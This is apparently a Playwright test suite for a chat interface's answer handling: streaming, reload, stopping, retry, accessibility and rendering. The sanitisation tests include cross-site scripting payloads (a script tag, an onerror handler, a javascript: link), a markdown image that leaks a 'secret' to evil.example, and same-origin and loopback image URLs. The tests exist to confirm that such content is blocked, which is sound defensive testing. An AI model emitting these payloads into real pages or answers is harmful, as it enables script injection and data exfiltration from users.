import type { Locator } from '@playwright/test';
import { renderToString } from 'katex';
import { expectAccessible, expectAccessibleAtOneWidth } from './accessibility';
import { answer, ask, composer, messages, stopButton, waitForAnswer } from './chat';
import { attachByDialog, margins, report, send } from './files';
import { collectPageErrors, expect, hold, signUp } from './fixtures';
import { modelStories } from './model-stories';

/** Stories about answers. The model is a scripted server with a real connection. */
const test = modelStories;
// The thread scrolls smoothly to a new message and then follows the answer, so motion is needed.
test.use({ settings: { AI_API: 'responses' }, reducedMotion: 'no-preference' });

const words = Array.from({ length: 40 }, (_, index) => `word${index + 1} `);
const wholeText = words.join('').trim();

test('an answer streams, survives a reload, and is stored', async ({ page, model, product }) => {
  const pageErrors = collectPageErrors(page, product);
  model.queue({ text: words, pauseAfterTokens: 15 });
  await signUp(page, product);
  await ask(page, 'What moves interest rates?');
  await expect(answer(page)).toContainText('word15');
  await expect(stopButton(page)).toBeVisible();
  await page.reload();
  // The text so far is shown at once after a reload.
  await expect(answer(page)).toContainText('word1 ');
  await expect(answer(page)).toContainText('word15');
  await expect(answer(page)).not.toContainText('word16');
  model.release();
  await expect(answer(page)).toContainText(wholeText);
  await waitForAnswer(page);
  await expect(page.getByRole('button', { name: /^What moves interest rates\?/ })).toBeVisible();
  await page.goto(`${product.url}/qchat`);
  await page.getByRole('button', { name: /^What moves interest rates\?/ }).click();
  await expect(answer(page)).toContainText(wholeText);
  await expect(messages(page)).toHaveCount(2);
  expect(model.requests).toHaveLength(1);
  expect(pageErrors).toEqual([]);
});

test('an answer that continues during a reload is followed to its end', async ({ page, model, product }) => {
  await page.setViewportSize({ width: 1280, height: 800 });
  await signUp(page, product);
  const long = Array.from({ length: 200 }, (_, index) => `paragraph${index + 1} of an answer that is long. `);
  for (const question of ['First?', 'Second?']) {
    model.queue({ text: long, delayMs: 20 });
    await page.goto(`${product.url}/qchat`);
    await ask(page, question);
    await expect(answer(page)).toContainText('paragraph80 ');
    // Repeated, because the frames in which content is rendered vary.
    for (const seen of ['paragraph90 ', 'paragraph120 ', 'paragraph150 ']) {
      await page.reload();
      await expect(answer(page)).toContainText(seen);
    }
    await waitForAnswer(page);
    await expect(answer(page)).toContainText('paragraph200 ');
    await expect(page.getByText('Jump to newest')).toHaveCount(0);
  }
});

test('a user who scrolls up while an answer streams keeps their position', async ({ page, model, product }) => {
  await page.setViewportSize({ width: 1280, height: 800 });
  await signUp(page, product);
  model.queue({
    text: Array.from({ length: 200 }, (_, n) => `paragraph${n + 1} of an answer that is long. `),
    delayMs: 20,
  });
  await ask(page, 'What moves interest rates?');
  await expect(answer(page)).toContainText('paragraph120 ');
  await answer(page).hover();
  await page.mouse.wheel(0, -200);
  await expect(page.getByText('Jump to newest')).toBeVisible();
  const thread = page.getByRole('region', { name: 'Messages' });
  const scrollTop = () => thread.evaluate((box) => box.scrollTop);
  let place = Number.NaN;
  const movedBy = async () => {
    const before = place;
    place = await scrollTop();
    return place - before;
  };
  // The wheel scrolls smoothly.
  await expect.poll(movedBy, { intervals: [200] }).toBe(0);
  await waitForAnswer(page);
  expect(await scrollTop()).toBe(place);
  await page.getByText('Jump to newest').click();
  await expect(page.getByText('Jump to newest')).toHaveCount(0);
});

test('two tabs show the same running answer', async ({ page, context, model, product }) => {
  model.queue({ text: words, pauseAfterTokens: 10 });
  await signUp(page, product);
  await ask(page, 'Compare gold and bonds');
  await expect(answer(page)).toContainText('word10');
  const second = await context.newPage();
  await second.goto(page.url());
  await expect(answer(second)).toContainText('word10');
  model.release();
  await expect(answer(second)).toContainText(wholeText);
  await expect(answer(page)).toContainText(wholeText);
  // A message in one tab appears in the other. Wait, because messages can't be sent during an answer.
  await waitForAnswer(second);
  model.queue({ text: 'Silver too.' });
  await ask(second, 'And silver?');
  await expect(page.getByText('And silver?', { exact: true })).toBeVisible();
  await expect(answer(page)).toContainText('Silver too.');
});

test('Stop keeps the text so far and aborts the request to the model', async ({ page, model, product }) => {
  model.queue({ text: words, pauseAfterTokens: 12 });
  await signUp(page, product);
  await ask(page, 'Tell me everything');
  await expect(answer(page)).toContainText('word12');
  await stopButton(page).focus();
  await page.keyboard.press('Enter');
  await waitForAnswer(page);
  await (await model.request(0)).aborted;
  await expect(composer(page)).toBeFocused();
  await expect(answer(page)).toContainText('word12');
  await page.reload();
  await expect(answer(page)).toContainText('word12');
  await expect(answer(page)).not.toContainText('word13');
  await expect(answer(page)).toContainText('Stopped');

  // Continue the stopped answer. It stays as an earlier version.
  model.queue({ text: 'and that is everything.' });
  await page.getByRole('button', { name: 'Continue', exact: true }).click();
  await expect(answer(page)).toContainText(/word1 .*word12 and that is everything\./s);
  await waitForAnswer(page);
  await expect(answer(page)).not.toContainText('Stopped');
  await expect(page.getByText('2 / 2')).toBeVisible();
});

test('the S shortcut stops an answer, but not from within fields', async ({ page, model, product }) => {
  model.queue({ text: words, pauseAfterTokens: 12 });
  await signUp(page, product);
  await ask(page, 'Tell me everything');
  await expect(answer(page)).toContainText('word12');
  await expect(composer(page)).toBeFocused();
  await page.keyboard.press('s');
  await expect(composer(page)).toHaveValue('s');
  await expect(stopButton(page)).toBeVisible();

  await composer(page).blur();
  const sheet = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
  // Shortcuts are loaded when the page is idle, which takes longer on a busy machine.
  await expect(async () => {
    await page.keyboard.press('?');
    await expect(sheet.getByText('Stop the answer')).toBeVisible({ timeout: 2000 });
  }).toPass();
  // Shortcuts have no effect behind a dialog.
  await page.keyboard.press('s');
  await page.keyboard.press('Escape');
  await expect(sheet).toBeHidden();
  await expect(stopButton(page)).toBeVisible();

  // Escape first hides the tooltip of the focused button.
  await stopButton(page).focus();
  await expect(page.getByRole('tooltip')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('tooltip')).toBeHidden();
  await expect(stopButton(page)).toBeVisible();

  await page.keyboard.press('s');
  await waitForAnswer(page);
  await (await model.request(0)).aborted;
  await expect(answer(page)).toContainText('Stopped');
  await expect(answer(page)).not.toContainText('word13');
  await expect(composer(page)).toHaveValue('s');
});

test('screen readers announce an answer by sentences, and its end', async ({ page, model, product }) => {
  const sentences = Array.from({ length: 24 }, (_, index) => `Sentence ${index + 1} is said. `);
  model.queue({ text: sentences, delayMs: 400 });
  await signUp(page, product);
  await page.evaluate(() => {
    const spoken: string[] = [];
    Object.assign(window, { spoken });
    new MutationObserver(() => {
      for (const region of document.querySelectorAll('[role=status][aria-live=polite]')) {
        const said = region.textContent ?? '';
        if (said !== '' && said !== spoken.at(-1)) spoken.push(said);
      }
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  await ask(page, 'Say it');
  await expect(answer(page)).toContainText('Sentence 24 is said.');
  await waitForAnswer(page);
  const spoken = () => page.evaluate(() => (window as unknown as { spoken: string[] }).spoken);
  await expect.poll(async () => (await spoken()).at(-1)).toMatch(/Answer complete\.$/);
  const [began, ...said] = await spoken();
  expect(began).toBe('qChat is answering.');
  // Complete sentences in order, each once and several at a time, not every received piece.
  expect(said.join(' ')).toBe(`${sentences.join('')}Answer complete.`);
  expect(said.length).toBeGreaterThan(1);
  expect(said.length).toBeLessThan(sentences.length);
});

test('a failed model keeps the message, shows the error and answers on Retry', async ({ page, model, product }) => {
  model.queue({ fault: { kind: 'status', status: 401 } }, { text: 'Now it works.' });
  await signUp(page, product);
  await ask(page, 'Will rates fall?');
  const retry = answer(page).getByRole('button', { name: 'Retry' });
  await expect(retry).toBeVisible();
  await expect(page.getByText('Will rates fall?', { exact: true }).last()).toBeVisible();
  await retry.focus();
  await page.keyboard.press('Enter');
  await expect(answer(page)).toContainText('Now it works.');
  await expect(retry).toBeHidden();
  await expect(composer(page)).toBeFocused();
  await expect(messages(page)).toHaveCount(2);
});

test('a server crash during an answer keeps its text, shows the error and answers on Retry', async ({
  page,
  model,
  product,
}) => {
  model.queue({ text: words, pauseAfterTokens: 20 }, { text: 'Complete at last.' });
  await signUp(page, product);
  await ask(page, 'What about oil?');
  await expect(answer(page)).toContainText('word20');
  const stored = `${product.url}/api/conversations/${new URL(page.url()).searchParams.get('c')}/messages`;
  await expect.poll(async () => (await page.request.get(stored)).text()).toContain('word20');
  await product.kill();
  await product.restart();
  await page.reload();
  await expect(answer(page)).toContainText('word20');
  await expect(answer(page)).toContainText('interrupted');
  await answer(page).getByRole('button', { name: 'Retry' }).click();
  await expect(answer(page)).toContainText('Complete at last.');
  await expect(messages(page)).toHaveCount(2);
});

test('a page that loses the server shows it and reconnects when the server is back', async ({
  page,
  model,
  product,
}) => {
  await signUp(page, product);
  model.queue({ text: 'Before.' });
  await ask(page, 'First question');
  await expect(answer(page)).toContainText('Before.');
  await product.kill();
  await expect(page.getByText(/Reconnecting|offline/i).first()).toBeVisible();
  await composer(page).fill('A question nobody can take');
  await composer(page).press('Enter');
  // The text is not lost: it is in the composer, or in the conversation with a button to resend it.
  await expect(
    composer(page)
      .filter({ hasText: 'A question nobody can take' })
      .or(page.getByText('A question nobody can take'))
      .first(),
  ).toBeVisible();
  await product.restart();
  await expect(page.getByText(/Reconnecting/i)).toBeHidden();
});

test('content from a model is never executed, and remote images load after a click', async ({
  page,
  model,
  product,
}) => {
  const pageErrors = collectPageErrors(page, product);
  model.queue({
    text: [
      '<script>alert(1)</script> <img src=x onerror="alert(2)">\n\n',
      '[bad](javascript:alert(3)) [good](https://example.org/page)\n\n',
      '![chart](https://evil.example/x.png?q=secret)\n\n',
      '| a | b |\n| - | - |\n| 1 | 2 |\n\n',
      '```js\nconst rate = 4.25;\n```\n',
    ],
  });
  await signUp(page, product);
  await ask(page, 'Show me everything');
  await waitForAnswer(page);
  await expect(answer(page).getByText('<script>alert(1)</script>')).toBeVisible();
  await expect(answer(page).getByRole('link', { name: 'good' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(answer(page).getByRole('link', { name: 'bad' })).toHaveCount(0);
  await expect(answer(page).getByRole('table')).toBeVisible();
  await expect(answer(page).getByText('const rate = 4.25;')).toBeVisible();
  await expect(answer(page).getByRole('button', { name: /evil\.example/ })).toBeVisible();
  expect(pageErrors).toEqual([]);
});

test('an answer never loads same-origin URLs, and remote images are fetched by script after a click', async ({
  page,
  model,
  product,
}) => {
  const secret = encodeURIComponent('http://127.0.0.1:9/p.png?q=THE-SECRET');
  const addresses = [
    `/remote-image?url=${secret}`,
    `./remote-image?url=${secret}`,
    `../remote-image?url=${secret}`,
    `//${new URL(product.url).host}/remote-image?url=${secret}`,
    `${product.url}/remote-image?url=${secret}`,
    `/%72emote-image?url=${secret}`,
  ];
  const asked: { type: string; header: string | undefined }[] = [];
  page.on('request', (request) => {
    if (/emote-image\?/.test(request.url()))
      asked.push({ type: request.resourceType(), header: request.headers()['x-requested-with'] });
  });
  const images = addresses.map((address, n) => `![chart ${n}](${address})\n\n`);
  const others = ['![far](http://127.0.0.1:9/far.png)\n\n', `${'>'.repeat(20_000)} deep\n\n`, 'The end.'];
  model.queue({ text: [...images, ...others] });
  await signUp(page, product);
  await ask(page, 'Show me charts');
  await waitForAnswer(page);
  await expect(answer(page).getByText('The end.')).toBeVisible();
  await expect(answer(page).getByRole('link', { name: /^chart \d$/ })).toHaveCount(addresses.length);
  await expect(answer(page).getByRole('img', { name: /chart|far/ })).toHaveCount(0);
  expect(asked).toEqual([]);
  await answer(page)
    .getByRole('button', { name: /127\.0\.0\.1:9/ })
    .click();
  await expect(answer(page).getByRole('link', { name: /Couldn't load the image/ })).toBeVisible();
  expect(asked).toMatchObject([{ type: 'fetch', header: 'qInsight' }]);
});

test('quotations show whether they are in the file, and open there', async ({ page, model, product }) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  await signUp(page, product);
  await attachByDialog(page, [report]);
  model.queue({
    text: [
      `The report says “${margins}” (page 2). `,
      'Revenue: “Revenue grew by 13 percent, to 48.2 million euros.” ',
      'It adds “a dividend of two euros will be paid to everyone in spring”.',
    ],
  });
  await send(page, 'What does the report say?');
  const verified = answer(page).getByRole('button', { name: 'Source 1: Northwind report.pdf, page 2. Verified quote' });
  await expect(verified.first()).toBeVisible();
  const { width, height } = (await verified.first().boundingBox()) ?? { width: 0, height: 0 };
  expect(Math.min(width, height)).toBeGreaterThanOrEqual(18);
  await expect(answer(page).getByText('Differs from the source').first()).toBeVisible();
  await verified.first().click();
  const sources = page.getByRole('region', { name: 'Sources' });
  await expect(sources.locator('mark')).toContainText(margins);
  await expect(sources.getByText('Verified quote')).toBeVisible();
  await expect(sources.locator('del').first()).toHaveText('13');
  await expect(sources.locator('ins').first()).toHaveText('12');
  await answer(page).getByRole('button', { name: 'Not found in the file' }).click();
  await expect(sources.getByText('None of the files searched contains them.')).toBeVisible();
  await expectAccessible(page, 'a quotation that is not in the file');
});

test('formulas, tables and code are rendered, and Escape stops the next answer', async ({ page, model, product }) => {
  const prose =
    'The company reports revenue growth of 12% in the third quarter, while margins fell because of higher costs for energy and wages. Management expects a recovery in the second half of the year, supported by new products and lower financing costs. ';
  const table = `| Region | Revenue | Margin | Growth | Staff | Churn | Note about the year |\n| --- | --: | --: | --: | --: | --: | --- |\n${[
    'North',
    'South',
    'East',
  ]
    .map((name) => `| ${name} | 1,250 | 12% | -3.5% | 210 | 4% | A long remark about the region that goes on |`)
    .join('\n')}`;
  const code =
    '```python\nprint("a line that is far too long for a telephone, and that can be wrapped on demand by its button")\n```';
  // KaTeX draws both with SVG.
  const drawn = '\\cancel{a} + \\sqrt{b}';
  const rich = [
    prose.repeat(6),
    'The fund rose from $5 to $10, so $r = \\frac{10 - 5}{5}$, and in general:',
    '\\[\nr = \\frac{P_t - P_0}{P_0}\n- 0\n\\]',
    `$${drawn}$`,
    table,
    code,
    table,
    code,
  ].join('\n\n');
  model.queue({ text: rich });
  await signUp(page, product);
  const showFormulas = await hold(page, '**/assets/math-*.js');
  await ask(page, 'Show me');
  await waitForAnswer(page);
  // While KaTeX is being loaded, no source of a formula is shown.
  await expect(answer(page)).toContainText('The fund rose from $5 to $10, so …, and in general:');
  await expect(answer(page)).not.toContainText('frac');
  showFormulas();
  await expect(answer(page).locator('.katex')).toHaveCount(3);
  const markup = renderToString(drawn, { output: 'html' });
  const graphics = await page.evaluate((html) => {
    const original = new DOMParser().parseFromString(html, 'text/html');
    const attributesOf = (parent: ParentNode) =>
      [...parent.querySelectorAll('.katex svg, .katex svg *')].map(({ tagName, attributes }) =>
        [tagName, ...[...attributes].map(({ name, value }) => `${name}=${value}`)].sort(),
      );
    return { expected: attributesOf(original), shown: attributesOf(document) };
  }, markup);
  expect(graphics.expected.flat()).toContain('stroke-width=0.046em');
  expect(graphics.shown).toEqual(graphics.expected);
  await expect(answer(page).getByRole('group', { name: 'Table: Region, Revenue, Margin' })).toHaveCount(2);
  await expectAccessibleAtOneWidth(page, 'tables and code of the same name');
  await answer(page).getByRole('button', { name: 'Wrap long lines' }).first().click();
  const perLine = await charactersPerLine(answer(page).locator('p').first());
  expect(perLine).toBeGreaterThanOrEqual(68);
  expect(perLine).toBeLessThanOrEqual(72);

  model.queue({ text: words, pauseAfterTokens: 12 });
  await ask(page, 'Tell me everything');
  await expect(answer(page)).toContainText('word12');
  // The accessibility check has reduced motion, which hides the cursor.
  await page.emulateMedia({ reducedMotion: 'no-preference' });
  const text = answer(page).locator('[data-answer-text]');
  const caret = () =>
    text
      .locator('p')
      .last()
      .evaluate((paragraph) => {
        const { content, display } = getComputedStyle(paragraph, '::after');
        return content !== 'none' && display !== 'none';
      });
  await expect.poll(caret).toBe(true);
  await page.emulateMedia({ reducedMotion: 'reduce' });
  await expect.poll(caret).toBe(false);
  await page.emulateMedia({ reducedMotion: 'no-preference' });
  await composer(page).press('Escape');
  await waitForAnswer(page);
  await expect(answer(page)).toContainText('Stopped');
  await expect.poll(caret).toBe(false);
});

/** The average over the full lines of a paragraph. */
const charactersPerLine = (paragraph: Locator) =>
  paragraph.evaluate((element) => {
    const text = element.textContent ?? '';
    const { height } = element.getBoundingClientRect();
    const lines = Math.round(height / Number.parseFloat(getComputedStyle(element).lineHeight));
    const node = element.firstChild as Text;
    const range = document.createRange();
    const topOf = (index: number) => {
      range.setStart(node, index);
      range.setEnd(node, index + 1);
      return range.getBoundingClientRect().top;
    };
    const bottom = topOf(text.trimEnd().length - 1);
    let last = text.trimEnd().length - 1;
    while (last > 0 && topOf(last) === bottom) last -= 1;
    return last / (lines - 1);
  });
